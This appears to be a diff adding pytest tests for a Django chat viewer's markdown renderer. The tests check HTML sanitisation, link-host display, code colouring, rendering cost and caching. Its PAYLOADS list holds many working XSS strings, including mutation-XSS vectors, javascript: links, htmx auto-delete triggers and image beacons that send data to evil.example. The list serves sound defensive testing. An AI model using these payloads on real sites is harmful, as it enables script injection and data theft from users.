@@ -1,0 +1,349 @@
+from __future__ import annotations
+
+import re
+import time
+from collections.abc import Callable, Iterator
+from html.parser import HTMLParser
+
+import pytest
+from django.core.cache import cache
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from viewer.completions.types import Citation
+from viewer.conversations import prose
+from viewer.conversations.code_colours import _BY_NAME, colour
+from viewer.conversations.prose import MARKDOWN_LIMIT, render_prose, render_prose_cached
+
+ALLOWED = {
+    "a": {"href", "rel", "target"},
+    "ol": {"start"},
+    "th": {"align"},
+    "td": {"align"},
+    "div": {"class", "tabindex"},
+    "pre": {"tabindex"},
+    "span": {"class"},
+    "code": {"class"},
+    "figure": {"class"},
+}
+BARE = (
+    "p br hr em strong del ul li blockquote h4 h5 h6 table thead tbody tr figcaption copy-code".split()  # noqa: SIM905
+)
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '<img srcset="https://evil.example/1.png 1x" src="//evil.example/2.png">',
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<style>@import url(https://evil.example/x.css);*{background:url(//evil.example)}</style>",
+    '<p style="background:url(https://evil.example/)" class="modal" id="csrf">x</p>',
+    '<link rel="stylesheet" href="https://evil.example/x.css"><link rel=preload href=//evil.example as=image>',
+    '<base href="https://evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<form action="https://evil.example/"><input name=q autofocus onfocus=alert(1)><button formaction=x>go</button></form>',
+    '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="data:text/html,x"></object><embed src=x><video poster=//evil.example><audio src=//evil.example>',
+    '<div hx-post="/keys/1/delete" hx-trigger="load" hx-on:load="alert(1)" data-hx-get="/x">x</div>',
+    '<a href="javascript:alert(1)" data-citation hx-get="/x" ping="//evil.example" download>x</a>',
+    '<a href="jav&#x09;ascript:alert(1)">x</a><a href=" javascript:alert(1)">y</a><a href="//evil.example">z</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a><a href="vbscript:x">y</a><a href="/keys/">z</a>',
+    "<details open ontoggle=alert(1)><summary>x</summary></details><dialog open>x</dialog><copy-text><input></copy-text>",
+    '<template><script>alert(1)</script></template><slot name="x"></slot><custom-thing onclick=x></custom-thing>',
+    '<figure class="code evil" onclick=x><pre tabindex="5" id=x><code class="language-python evil">a</code></pre>',
+    "<!-- <script>alert(1)</script> --!><![CDATA[<script>]]><?php echo 1 ?><!DOCTYPE html>",
+    "<plaintext>", "<textarea></textarea><xmp><b>", "<a title='\"><script>alert(1)</script>'>", "</p></div></article><b>",
+    "{{7*7}} {% debug %} ${7*7} <%= 1 %>",
+    "![beacon](https://evil.example/p.png?d=secret)", "![x](//evil.example/p)", "![x](data:image/svg+xml,<svg onload=1>)",
+    "![\"onerror=alert(1) x=\"](x\"onerror=alert(1))", "![![a](https://evil.example/a)](https://evil.example/b)",
+    "[![a](https://evil.example/a)](javascript:alert(1))", "![x][r]\n\n[r]: https://evil.example/p \"t\"",
+    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](javascript&#58;alert(1))", "[x](java\\\nscript:alert(1))",
+    "[x](<java script:alert(1)>)", "[x](data:text/html;base64,PHN=)", "[x](vbscript:x)", "[x](file:///etc/passwd)",
+    "[x](/keys/1/delete)", "[x](//evil.example)", "[x](?delete=1)", "[x](#top)", "[x](https:evil)", "[x](https:\\\\evil)",
+    "[x](http:///evil)", "[x](https://%00)", "[x](https://[)", "[x](mailto:)", "<javascript:alert(1)>", "<data:text/html,x>",
+    "[x]\n\n[x]: javascript:alert(1) 'title\"onclick=x'", "[x](https://a.example \"t\\\" onmouseover=alert(1)\")",
+    "[[x](javascript:alert(1))](https://a.example)", "[a](https://a.example)[b](javascript:x)", "[x](https://a.example/\"onclick=x)",
+    "www.a.example\"onclick=x", "https://a.example/<script>", "<https://a.example/\"onclick=x>", "a@b.example\"onclick=x",
+    "xmpp:a@b.example ftp://a.example tel:123", "```\"><script>alert(1)</script>\nx\n```", "```html\n<script>alert(1)</script>\n```",
+    "```js\n\"</code></pre><script>alert(1)</script>\"\n```", "|<script>|\n|-|\n|<img src=x onerror=y>|", "- [x] <input onfocus=x>",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;", "\\(<script>alert(1)</script>\\)", "$$<img src=x>$$",
+    "`<script>|</script>`", "# <svg onload=alert(1)>", "> <script>\n> alert(1)\n> </script>", "<x\n\nonclick=alert(1)>",
+]  # fmt: skip
+MARKDOWN = """## Plan
+
+Do **this** in *three* steps, see [the docs](https://docs.example.com/a?b=1&c=2) or https://example.org/x.
+
+1. Take a backup of the `orders` table
+2. Run it with `--dry-run`
+   - check the **totals**
+
+| step | owner | days |
+|:-----|:-----:|-----:|
+| backup | Ann | 1 |
+| switch | `a|b` | 2 |
+
+```python
+def total(rows: list[dict]) -> int:
+    # only paid ones count
+    return sum(row["amount"] for row in rows if row["state"] == "paid")
+```
+
+> The old system stays readable.
+
+- [x] agreed with finance
+- [ ] agreed with ~~hope~~ support
+"""
+
+
+class Elements(HTMLParser):
+    """Collects every start tag that a lenient parser sees."""
+
+    def __init__(self, markup: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(markup)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError(f"a comment: {data}")
+
+    handle_decl = unknown_decl = handle_pi = handle_comment
+
+
+def assert_harmless(markup: str) -> None:
+    for tag, attributes in Elements(markup).found:
+        assert tag in ALLOWED or tag in BARE, tag
+        assert attributes.keys() <= ALLOWED.get(tag, set()), (tag, attributes)
+        if tag == "a" and "href" in attributes:
+            assert re.match(r"https?://[^/\s\\]|mailto:[^\s]", attributes["href"] or ""), attributes
+            assert attributes["rel"] == "noopener noreferrer nofollow ugc"
+            assert attributes["target"] == "_blank"
+
+
+@pytest.fixture
+def without_nh3(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(prose, "_sanitise", lambda html: html)
+
+
+@pytest.fixture
+def without_escape() -> Iterator[None]:
+    prose._RENDER.escape = False
+    yield
+    prose._RENDER.escape = True
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_nothing_in_a_text_acts(payload: str) -> None:
+    drawn = render_prose(payload).html
+    assert_harmless(drawn)
+    assert prose._sanitise(drawn) == drawn  # what a browser reads is what nh3 wrote
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+@pytest.mark.usefixtures("without_nh3")
+def test_the_first_wall_holds_alone(payload: str) -> None:
+    assert_harmless(render_prose(payload).html)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+@pytest.mark.usefixtures("without_escape")
+def test_the_second_wall_holds_alone(payload: str) -> None:
+    assert_harmless(render_prose(payload).html)
+    assert_harmless(prose._sanitise(payload))
+    assert_harmless(prose._sanitise(prose._frame(payload, {})))
+
+
+@settings(deadline=None, max_examples=300)
+@given(st.lists(st.sampled_from([*PAYLOADS, "\n\n", "`", "[", "](", ")", '"', "<", ">"]), max_size=6).map("".join))
+def test_payloads_side_by_side_do_not_act_either(text: str) -> None:
+    drawn = render_prose(text, [Citation("https://a.example/", "", 0, len(text))]).html
+    assert_harmless(re.sub(r'<a class="chip-citation"[^>]*>', "<a>", drawn))
+
+
+def test_a_chip_has_nothing_but_its_own_attributes() -> None:
+    drawn = render_prose("Oslo", [Citation("https://a.example/", 'x" hx-get="/x', 0, 4)]).html
+    chips = [attributes for tag, attributes in Elements(drawn).found if tag == "a"]
+    assert [chip.keys() for chip in chips] == [{"class", "data-citation", "href", "rel", "target", "aria-label"}]
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        ("one\ntwo", "<p>one<br>two</p>"),
+        ("~~old~~ **new**", "<p><del>old</del> <strong>new</strong></p>"),
+        ("# A\n## B\n###### C", "<h4>A</h4><h5>B</h5><h6>C</h6>"),
+        ("- [x] a\n- [ ] b", '<ul><li><span class="task">☑</span> a</li><li><span class="task">☐</span> b</li></ul>'),
+        ("3. a", '<ol start="3"><li>a</li></ol>'),
+        ("a <b>b</b>", "<p>a &lt;b&gt;b&lt;/b&gt;</p>"),
+        ("&lt;b&gt; &amp;amp; &#x3C; {{7*7}}", "<p>&lt;b&gt; &amp;amp; &lt; {{7*7}}</p>"),
+        ("a\u202eb&#x202e; \0", "<p>a[U+202E]b[U+202E] ␀</p>"),
+        (r"so \(a_1<b_2\) is", r'<p>so <code class="math">\(a_1&lt;b_2\)</code> is</p>'),
+        ("[go](/keys/)", '<p><span class="link__dead">go <span class="link__host">(/keys/)</span></span></p>'),
+        ("<javascript:x>", '<p><span class="link__dead">javascript:x</span></p>'),
+        ("![cat](https://a.example/c.png)", '<p><span class="image-note">Image “cat” on a.example, not loaded</span></p>'),
+        ("![](data:image/png;base64,AA)", '<p><span class="image-note">Image, not shown: data:image/png;base64,AA</span></p>'),
+    ],
+)  # fmt: skip
+def test_markdown_is_drawn(text: str, html: str) -> None:
+    assert render_prose(text).html == html
+
+
+@pytest.mark.parametrize(
+    ("label", "address", "host"),
+    [
+        ("ok", "https://a.example/", "a.example"),
+        ("https://bank.example", "https://evil.example/", "evil.example"),
+        ("bank.example@evil.example", "https://bank.example@evil.example/", "evil.example"),
+        ("аpple.example", "https://аpple.example/", "xn--pple-43d.example"),
+        ("a.example.evil", "https://a.example/", "a.example"),
+        ("https://www.a.example/x", "https://a.example/x", ""),
+        ("a.example", "https://www.a.example/", ""),
+        ("write", "mailto:a@b.example?subject=x", "a@b.example"),
+    ],
+)
+def test_a_link_names_its_host_unless_it_is_its_text(label: str, address: str, host: str) -> None:
+    found = re.search(r'<span class="link__host">\((.*)\)</span></a>', render_prose(f"[{label}]({address})").html)
+    assert (found[1] if found else "") == host
+
+
+def test_code_has_a_frame_with_its_language_and_colours() -> None:
+    assert render_prose('```json\n{"a": "<b>"}\n```').html == (
+        '<copy-code><figure class="code"><figcaption>json</figcaption><pre tabindex="0"><code>'
+        '{<span class="k">"a"</span>: <span class="s">"&lt;b&gt;"</span>}\n</code></pre></figure></copy-code>'
+    )
+    assert "<figcaption>code</figcaption>" in render_prose("```\nx = 1\n```").html
+    assert "<span" not in render_prose("```unknown\nif x = 1\n```").html
+
+
+def test_a_table_scrolls_by_itself_and_keeps_a_pipe_in_code() -> None:
+    drawn = render_prose("|a|b|\n|-|-:|\n|1|`x|y`|\n").html
+    assert drawn.startswith('<div class="table-scroll" tabindex="0"><table>')
+    assert '<td align="right"><code>x|y</code></td></tr></tbody></table></div>' in drawn
+    assert render_prose("`x|y`\n\n    `x|y`").html.count("x|y") == 2
+
+
+@pytest.mark.parametrize("language", sorted(_BY_NAME))
+@settings(deadline=None, max_examples=20)
+@given(st.text(alphabet=st.sampled_from("ab1 \n\"'`#/*-<>!{}\\:=.$@&;"), max_size=60))
+def test_colours_change_no_character_of_the_code(language: str, code: str) -> None:
+    assert "".join(Text(colour(code, language)).pieces) == code
+
+
+class Text(Elements):
+    """Collects the text."""
+
+    def __init__(self, markup: str) -> None:
+        self.pieces: list[str] = []
+        super().__init__(markup)
+
+    def handle_data(self, data: str) -> None:
+        self.pieces.append(data)
+
+
+def test_a_text_over_the_limit_is_plain_and_whole() -> None:
+    text = "**a** <b>\n" * 2001
+    assert len(text) > MARKDOWN_LIMIT
+    drawn = render_prose(text, [Citation("https://a.example/", "", 0, 5)])
+    assert "".join(Text(drawn.html).pieces) == text
+    assert len(drawn.sources) == 1
+
+
+@pytest.mark.parametrize("text", [">" * 5000 + "a", "> " * 3000 + "a", "".join("  " * n + "- a\n" for n in range(140))])
+def test_nesting_beyond_reason_is_plain_and_whole(text: str) -> None:
+    assert "".join(Text(render_prose(text).html).pieces) == text
+
+
+def test_a_table_that_would_fill_megabytes_is_no_table() -> None:
+    text = "|a" * 3000 + "|\n" + "|-" * 3000 + "|\n" + "|b\n" * 600
+    assert len(render_prose(text).html) < 3 * len(text)
+
+
+REPEATED = [
+    "[", "]", "(", "[a](", "](", "![", "![a](", "[[a]]", "[a][b]", "[a]: b\n", "*", "**", "*a ", "**a", "_a ", "*a_", "a**b c* ",
+    "`", "`` ", "```\n", "~~a", ">", "> ", "> - ", "- ", "- a\n", "1. a\n", "# a\n", "|", "|a|b|\n|-|-|\n", "<", "<a ", "<!--", "&",
+    "&amp;", "\\", "\\(", "\\[a", "www.", "http://a.b ", "<http:", "a@b.c ", "\n", " ", "\t", "x", "\u202e", "\U000e0069", "`|", "`a|b` ",
+    "[a](b \"", "[a](http://x.y)", "([a.b](http://x.y))", "![a](http://x.y)", "\U000f0000", "%F3%B0%80%80",
+]  # fmt: skip
+CODE = [
+    "\n",
+    "a",
+    "a\n",
+    "a ",
+    '"',
+    "'",
+    "`",
+    '"""',
+    "/*",
+    "//",
+    "/",
+    "#",
+    "--",
+    "<!--",
+    "<",
+    "<a",
+    "-",
+    ".",
+    "a-",
+    '"\\',
+    "1.",
+    "@",
+]
+
+
+def cost(run: Callable[[int], object], size: int) -> float:
+    times = []
+    for _ in range(3):
+        begin = time.process_time()
+        run(size)
+        times.append(time.process_time() - begin)
+    return min(times)
+
+
+def assert_linear(run: Callable[[int], object]) -> None:
+    """Four times the text may take four times as long, not sixteen times; what takes under 20 ms is no matter."""
+    large = cost(run, MARKDOWN_LIMIT)
+    assert large < 0.02 or large < 10 * cost(run, MARKDOWN_LIMIT // 4)
+
+
+@pytest.mark.parametrize("piece", REPEATED)
+def test_the_cost_grows_with_the_length(piece: str) -> None:
+    cited = [Citation(f"https://{n}.example/", "", n, n + 9) for n in range(20)]
+    assert_linear(lambda size: render_prose((piece * size)[:size], cited))
+
+
+@pytest.mark.parametrize(
+    "language", ["python", "js", "json", "sh", "sql", "c", "java", "yaml", "toml", "css", "html", "diff"]
+)
+def test_the_cost_of_colours_grows_with_the_length(language: str) -> None:
+    for piece in CODE:
+        assert_linear(lambda size, piece=piece: colour((piece * size)[:size], language))
+
+
+@settings(deadline=None, max_examples=200)
+@given(st.text())
+def test_any_text_is_drawn_the_same_way_twice(text: str) -> None:
+    assert render_prose(text) == render_prose(text)
+    assert_harmless(render_prose(text).html)
+
+
+def test_a_text_is_drawn_once_and_kept(monkeypatch: pytest.MonkeyPatch) -> None:
+    cache.clear()
+    cited = (Citation("https://a.example/", "A", 0, 4),)
+    first = render_prose_cached(MARKDOWN, cited)
+    assert first == render_prose(MARKDOWN, cited)
+    monkeypatch.setattr(prose, "render_prose", None)
+    assert render_prose_cached(MARKDOWN, cited) == first
+    with pytest.raises(TypeError):
+        render_prose_cached(MARKDOWN)
+
+
+def test_a_huge_drawing_is_not_kept() -> None:
+    cache.clear()
+    text = "&" * 100_000
+    assert render_prose_cached(text).html == render_prose_cached(text).html
+    assert not [key for key in getattr(cache, "_cache", {}) if "prose:" in key]
